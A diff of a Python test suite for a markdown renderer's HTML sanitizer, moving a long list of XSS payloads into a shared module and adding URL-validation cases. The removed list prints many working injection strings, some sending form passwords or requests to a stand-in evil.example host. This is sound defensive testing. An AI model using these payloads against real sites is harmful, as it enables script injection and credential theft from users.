@@ -16,118 +16,11 @@ from lxml.html import HtmlElement
 from docgen.render.links import is_harmless, leads_out
 from docgen.render.markdown import MarkdownRenderer
 from docgen.render.sanitize import BLOCK_TAGS, INLINE_TAGS, clean
+from tests.support.attacks import MARKDOWN_ATTRIBUTES, MARKUP
 
 RENDERER = MarkdownRenderer()
 CORPUS = Path(__file__).parents[4] / "shared" / "corpus" / "real"
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "a <script\n>alert(1)</script\n>",
-    "<script/x>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x oNeRrOr='alert(1)'>",
-    "<img/src=x/onerror=alert(1)>",
-    '<img """><script>alert(1)</script>">',
-    "<img src=`x`onerror=alert(1)>",
-    "<b onclick=alert(1)>x</b>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<p onmouseover\n=\nalert(1)>x",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href=' java\tscript:alert(1)'>x</a>",
-    "<a href='java&#10;script:alert(1)'>x</a>",
-    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
-    "<a href='\x01javascript:alert(1)'>x</a>",
-    "<a href='JaVaScRiPt:alert(1)'>x</a>",
-    "<a href=vbscript:msgbox(1)>x</a>",
-    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
-    "<a href='data:image/png;base64,AAAA'>x</a>",
-    "<a href='https://a.example' href='javascript:alert(1)'>x</a>",
-    "[x](javascript:alert(1))",
-    "[x](JAVASCRIPT:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](<java\tscript:alert(1)>)",
-    "[x](data:text/html,<script>alert(1)</script>)",
-    "[x](data:image/png;base64,AAAA)",
-    "[x](vbscript:x 'y')",
-    "[x](file:///etc/passwd)",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "[x](\\\\evil.example\\share)",
-    "<javascript:alert(1)>",
-    "![x](javascript:alert(1))",
-    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
-    "![x](data:text/html;base64,PHN2Zz4=)",
-    '![x](y "\\" onerror=alert(1) \\"")',
-    '![" onerror="alert(1)](y)',
-    "![x](https://evil.example/pixel.gif)",
-    "<img src=//evil.example/pixel.gif>",
-    "<img srcset='https://evil.example/x 1x'>",
-    "<svg onload=alert(1)><script>alert(1)</script></svg>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<math href='javascript:alert(1)'>x</math>",
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data=x.swf></object><embed src=x.swf>",
-    "<form action=https://evil.example><input name=password><button>x</button></form>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<base href=https://evil.example/>",
-    "<style>*{background:url(https://evil.example)}</style>",
-    "<p style='background:url(https://evil.example)'>x</p>",
-    "<p style=position:fixed class=header id=main name=x>x</p>",
-    "<h1 id=search>x</h1>",
-    "<table background=https://evil.example/x><td background=x>y",
-    "<video src=x onerror=alert(1)><source src=https://evil.example></video>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<textarea></textarea><img src=x onerror=alert(1)>",
-    "<title><img src=x onerror=alert(1)></title>",
-    "<xmp><script>alert(1)</script></xmp>",
-    "<plaintext><script>alert(1)</script>",
-    "<select><option><script>alert(1)</script></select>",
-    "<!--><script>alert(1)</script>-->",
-    "<!-- --!><script>alert(1)</script> -->",
-    "<!<script>alert(1)</script>>",
-    "<?xml <script>alert(1)</script> ?>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "</p><script>alert(1)</script>",
-    "```\n</code></pre><script>alert(1)</script>\n```",
-    '```x"><script>alert(1)</script>\ny\n```',
-    '```json "onfocus=alert(1) autofocus x="\n{}\n```',
-    "`</code><script>alert(1)</script>`",
-    "# x <script>alert(1)</script> onload=alert(1)",
-    '# " onfocus=alert(1) x="',
-    "> [!NOTE]\n> <script>alert(1)</script>",
-    "| a |\n|---|\n| <script>alert(1)</script> |",
-    "x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    'https://a.example/"onmouseover=alert(1)//',
-    "https://a.example/<script>alert(1)</script>",
-    "\x00<script>alert(1)</script>",
-    "{{ 7*7 }}{% include 'x' %}",
-]
-"""Written for this test."""
-
-ATTRIBUTES = {
-    "a": {"aria-label", "class", "href", "id", "rel", "title"},
-    "abbr": {"title"},
-    "bdo": {"dir"},
-    "code": {"class"},
-    "details": {"open"},
-    "div": {"aria-label", "class", "role", "tabindex"},
-    "img": {"alt", "height", "src", "title", "width"},
-    "li": {"id"},
-    "ol": {"reversed", "start"},
-    "p": {"class"},
-    "pre": {"aria-label", "class", "role", "tabindex"},
-    "section": {"class", "role"},
-    "span": {"class"},
-    "sup": {"class"},
-    "td": {"class", "colspan", "rowspan"},
-    "th": {"class", "colspan", "rowspan", "scope"},
-}
 CLASS = re.compile(
     r"hl-[a-z]|callout(-[a-z]+)?|footnote(s|-ref|-back)|table-scroll|code|align-[a-z]+"
     r"|language-[a-z0-9_+#.-]+"
@@ -135,14 +28,14 @@ CLASS = re.compile(
 
 
 class TestNothingRuns:
-    @pytest.mark.parametrize("attack", ATTACKS)
+    @pytest.mark.parametrize("attack", MARKUP)
     def test_attacks_are_text(self, attack: str) -> None:
         """Neither form of drawing lets anything through that a browser would run."""
         for text in (attack, f"x {attack} y", f"- {attack}", f"<div>{attack}\n\nz"):
             expect_harmless(RENDERER.block(text, anchor_prefix="own-"))
             expect_harmless(RENDERER.inline(text))
 
-    @pytest.mark.parametrize("attack", ATTACKS)
+    @pytest.mark.parametrize("attack", MARKUP)
     def test_last_guard_stands_alone(self, attack: str) -> None:
         """Even if no tag were rewritten before, the sanitizer would refuse it."""
         for element in tree(clean(attack)).iter():
@@ -154,7 +47,7 @@ class TestNothingRuns:
             )
 
     @given(
-        st.lists(st.tuples(st.sampled_from(ATTACKS), st.integers(0, 60)), max_size=4),
+        st.lists(st.tuples(st.sampled_from(MARKUP), st.integers(0, 60)), max_size=4),
         st.sampled_from(["", " ", "\n", "\n\n", "\n> "]),
     )
     def test_mixed_attacks_are_text(
@@ -178,6 +71,12 @@ class TestNothingRuns:
             ("//a.example", False),
             ("/\\a.example", False),
             ("https:///a", False),
+            ("https://user:secret@a.example:8080?b", True),
+            ("http://[2001:db8::1]:80/", True),
+            ("https://bücher.example/{id}", True),
+            ("https://a.example:port/", False),
+            ("https://<b>.example/", False),
+            ("https://a.example@", False),
             ("javascript:alert(1)", False),
             ("java\nscript:alert(1)", False),
             ("\x01javascript:alert(1)", False),
@@ -250,7 +149,7 @@ def expect_harmless(drawn: str) -> None:
     for element in tree(drawn).iter():
         assert isinstance(element.tag, str), "a comment or an instruction"
         assert element.tag in INLINE_TAGS | BLOCK_TAGS | {"section"}
-        assert set(element.attrib) <= ATTRIBUTES.get(element.tag, set()) | (
+        assert set(element.attrib) <= MARKDOWN_ATTRIBUTES.get(element.tag, set()) | (
             {"id"} if re.fullmatch("h[1-6]", element.tag) else set()
         )
         assert all(map(CLASS.fullmatch, element.get("class", "").split()))
